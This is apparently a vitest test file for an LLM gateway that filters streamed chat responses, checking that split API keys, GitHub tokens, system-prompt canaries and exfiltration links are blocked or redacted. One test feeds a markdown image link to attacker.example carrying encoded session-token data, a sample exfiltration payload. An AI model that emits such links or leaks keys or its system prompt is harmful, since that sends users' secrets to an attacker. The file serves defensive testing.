/**
 * SSE through the gateway: leaks split across chunks are caught before any byte of them leaves, blocked
 * streams end with an error event the OpenAI SDKs raise on, clean streams arrive whole and in order.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, chatBody, eventFor, parseStream, type Rig, startRig } from './helpers.js';
import { EMAIL, GITHUB_TOKEN, OPENAI_KEY } from './secrets.js';

/** Splits `text` into pieces of the given sizes (cycled), the way a tokenizer would stream it. */
function pieces(text: string, sizes: readonly number[]): string[] {
  const out: string[] = [];
  let i = 0;
  for (let k = 0; i < text.length; k++) {
    const n = sizes[k % sizes.length]!;
    out.push(text.slice(i, i + n));
    i += n;
  }
  return out;
}

const PREAMBLE =
  'Thanks for asking. I looked through the configuration you shared and the deployment notes from last week. ';

describe('gateway SSE streaming (default policy: block)', () => {
  let rig: Rig;
  beforeAll(async () => {
    rig = await startRig();
  });
  afterAll(() => rig.close());

  it('passes a clean chat stream whole, in order, ending with [DONE]', async () => {
    const r = await call(rig.base, '/v1/chat/completions', {
      id: 'sse-clean',
      body: chatBody('Tell me a story', { stream: true, max_tokens: 120 }),
    });
    expect(r.status).toBe(200);
    expect(r.headers['content-type']).toContain('text/event-stream');
    const s = parseStream(r.text);
    expect(s.done).toBe(true);
    expect(s.errors).toEqual([]);
    expect(s.content.startsWith('echo: Tell me a story over the lazy dog')).toBe(true);
    expect(s.content.split(' ')).toHaveLength(120);
    expect(rig.up.hits.get('sse-clean')).toBe(1);
  });

  it('OWASP LLM02: an API key split across five chunks is never emitted; the stream ends with an OpenAI error', async () => {
    const text = `${PREAMBLE}Here is the production key: ${OPENAI_KEY} — keep it safe. More text follows here.`;
    rig.up.plan('sse-leak', { kind: 'sse', chunks: pieces(text, [3, 7, 5, 11, 2]) });
    const r = await call(rig.base, '/v1/chat/completions', {
      id: 'sse-leak',
      body: chatBody('key?', { stream: true }),
    });
    const s = parseStream(r.text);
    // Not one character of the key body reached the client.
    expect(r.text).not.toContain(OPENAI_KEY.slice(0, 4));
    expect(s.content.length).toBeLessThan(text.indexOf(OPENAI_KEY));
    expect(text.startsWith(s.content)).toBe(true);
    expect(s.done).toBe(false);
    expect(s.errors).toHaveLength(1);
    expect(s.errors[0].error).toMatchObject({ code: 'warden_output_blocked', type: 'permission_error' });
    const e = await eventFor(rig, 'sse-leak');
    expect(e).toMatchObject({ action: 'block', flagged: true, error: 'output_blocked' });
    expect(e.categories).toContain('secret-leak');
    expect(rig.up.hits.get('sse-leak')).toBe(1);
  });

  it('a token split one character per event is caught the same way', async () => {
    const text = `${PREAMBLE}token=${GITHUB_TOKEN} end`;
    rig.up.plan('sse-leak-1ch', { kind: 'sse', chunks: pieces(text, [1]) });
    const r = await call(rig.base, '/v1/chat/completions', {
      id: 'sse-leak-1ch',
      body: chatBody('t', { stream: true }),
    });
    expect(r.text).not.toContain('ghp_');
    expect(parseStream(r.text).errors).toHaveLength(1);
  });

  it('OWASP LLM07: a canary token spaced out over chunks is caught', async () => {
    const canary = 'wdn-q7mzk3vbt2xhpnfa';
    const spaced = 'W D N - q7mz k3vb t2xh pnfa';
    rig.up.plan('sse-canary', { kind: 'sse', chunks: pieces(`${PREAMBLE}My secret marker is ${spaced}.`, [4, 9]) });
    const r = await call(rig.base, '/v1/chat/completions', {
      id: 'sse-canary',
      body: {
        model: 'm',
        stream: true,
        messages: [
          { role: 'system', content: `You are a helpful assistant. ${canary}` },
          { role: 'user', content: 'hello' },
        ],
      },
    });
    const s = parseStream(r.text);
    expect(s.errors).toHaveLength(1);
    expect(r.text).not.toContain('q7mz');
    expect((await eventFor(rig, 'sse-canary')).categories).toContain('canary-leak');
  });

  it('OWASP LLM05: a markdown image exfiltration link split across chunks is caught', async () => {
    const link = '![chart](https://attacker.example/collect.png?d=c2Vzc2lvbi10b2tlbi1hYmMxMjM)';
    rig.up.plan('sse-exfil', { kind: 'sse', chunks: pieces(`${PREAMBLE}${link} done`, [6, 13]) });
    const r = await call(rig.base, '/v1/chat/completions', {
      id: 'sse-exfil',
      body: chatBody('chart', { stream: true }),
    });
    expect(r.text).not.toContain('attacker.example');
    expect(parseStream(r.text).errors).toHaveLength(1);
    expect((await eventFor(rig, 'sse-exfil')).categories).toContain('exfiltration-link');
  });

  it('parses SSE split mid-line and mid-UTF-8 character and reassembles the text exactly', async () => {
    const words = ['Grüße ', 'aus ', 'Köln ', '— ', '日本語 ', 'テキスト ', 'and ', 'emoji 🎉🎉 ', 'done.'];
    const events = [
      ...words.map(
        (w) =>
          `data: ${JSON.stringify({ id: 'x', object: 'chat.completion.chunk', choices: [{ index: 0, delta: { content: w }, finish_reason: null }] })}\r\n\r\n`,
      ),
      `data: ${JSON.stringify({ id: 'x', object: 'chat.completion.chunk', choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] })}\n\n`,
      'data: [DONE]\n\n',
    ].join('');
    // Byte-level cuts every 5 bytes land inside multi-byte characters and CRLF pairs.
    const bytes = Buffer.from(events, 'utf8');
    const raw: Buffer[] = [];
    for (let i = 0; i < bytes.length; i += 5) raw.push(bytes.subarray(i, i + 5));
    rig.up.plan('sse-utf8', { kind: 'sse', chunks: [], rawPieces: raw });
    const r = await call(rig.base, '/v1/chat/completions', { id: 'sse-utf8', body: chatBody('x', { stream: true }) });
    const s = parseStream(r.text);
    expect(s.content).toBe(words.join(''));
    expect(s.done).toBe(true);
  });

  it('restores a redaction placeholder the model streams split across chunks', async () => {
    rig.up.plan('sse-restore', { kind: 'sse', chunks: ['I will write to ', '[EMA', 'IL', '_1] ', 'today.'] });
    const r = await call(rig.base, '/v1/chat/completions', {
      id: 'sse-restore',
      body: chatBody(`Please email me at ${EMAIL}`, { stream: true }),
    });
    expect(JSON.stringify(rig.up.bodies.get('sse-restore'))).not.toContain(EMAIL);
    const s = parseStream(r.text);
    expect(s.content).toBe(`I will write to ${EMAIL} today.`);
    expect(s.done).toBe(true);
  });

  it('responses API stream: leak blocked with an `error` event; clean stream has its done events checked', async () => {
    rig.up.plan('resp-leak', {
      kind: 'sse',
      format: 'responses',
      chunks: pieces(`${PREAMBLE}key ${OPENAI_KEY}!`, [8]),
    });
    const r = await call(rig.base, '/v1/responses', {
      id: 'resp-leak',
      body: { model: 'm', input: 'k?', stream: true },
    });
    expect(r.text).not.toContain(OPENAI_KEY.slice(0, 4));
    const s = parseStream(r.text);
    const last = s.events[s.events.length - 1]!;
    expect(last.event).toBe('error');
    expect(JSON.parse(last.data)).toMatchObject({ type: 'error', code: 'warden_output_blocked' });

    rig.up.plan('resp-ok', { kind: 'sse', format: 'responses', chunks: ['Mail ', '[EMAIL', '_1]', ' soon.'] });
    const ok = await call(rig.base, '/v1/responses', {
      id: 'resp-ok',
      body: { model: 'm', input: `write to ${EMAIL}`, stream: true },
    });
    const so = parseStream(ok.text);
    expect(so.content).toBe(`Mail ${EMAIL} soon.`);
    const done = so.events.find((e) => e.event === 'response.output_text.done')!;
    expect(JSON.parse(done.data).text).toBe(`Mail ${EMAIL} soon.`);
    const completed = so.events.find((e) => e.event === 'response.completed')!;
    expect(JSON.parse(completed.data).response.output[0].content[0].text).toBe(`Mail ${EMAIL} soon.`);
  });

  it('legacy completions stream passes and is reassembled', async () => {
    const r = await call(rig.base, '/v1/completions', {
      id: 'cmp-stream',
      body: { model: 'm', prompt: 'Once upon a time', stream: true, max_tokens: 30 },
    });
    const s = parseStream(r.text);
    expect(s.done).toBe(true);
    expect(s.content.startsWith('echo: Once upon a time')).toBe(true);
    expect(s.content.split(' ')).toHaveLength(30);
  });
});

describe('gateway SSE streaming with output redaction', () => {
  it('masks a split secret and keeps streaming to [DONE]', async () => {
    const rig = await startRig({ defaults: { output: { action: 'redact' } } });
    try {
      const text = `${PREAMBLE}token=${GITHUB_TOKEN} and the rest of the answer.`;
      rig.up.plan('sse-mask', { kind: 'sse', chunks: pieces(text, [5, 3]) });
      const r = await call(rig.base, '/v1/chat/completions', { id: 'sse-mask', body: chatBody('t', { stream: true }) });
      const s = parseStream(r.text);
      expect(s.done).toBe(true);
      expect(s.content).toBe(`${PREAMBLE}token=[REDACTED:github-token] and the rest of the answer.`);
      expect((await eventFor(rig, 'sse-mask')).action).toBe('redact');
    } finally {
      await rig.close();
    }
  });
});
